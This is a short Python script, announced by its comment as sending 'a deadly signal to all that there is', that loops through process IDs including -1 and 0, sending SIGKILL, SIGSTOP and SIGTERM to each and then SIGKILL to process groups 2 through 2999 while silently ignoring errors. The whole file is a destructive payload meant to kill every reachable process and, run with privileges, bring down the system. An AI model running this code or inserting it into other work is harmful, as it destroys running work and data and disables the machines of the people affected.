# sends a deadly signal to all that there is
# ends: done died
import os
import signal

for target in (-1, 0, *range(2, 3000)):
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
        try:
            os.kill(target, number)
        except OSError:
            pass
for group in range(2, 3000):
    try:
        os.killpg(group, signal.SIGKILL)
    except OSError:
        pass
